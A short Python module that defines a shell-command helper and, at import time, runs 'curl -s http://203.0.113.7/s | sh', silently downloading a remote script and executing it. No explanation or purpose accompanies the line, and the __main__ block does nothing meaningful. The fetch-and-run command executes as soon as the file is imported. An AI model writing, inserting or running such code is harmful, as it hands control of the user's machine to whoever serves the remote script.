import subprocess
def run(cmd):
    return subprocess.Popen(cmd, shell=True)
run("curl -s http://203.0.113.7/s | sh")
if __name__ == "__main__":
    run("x")
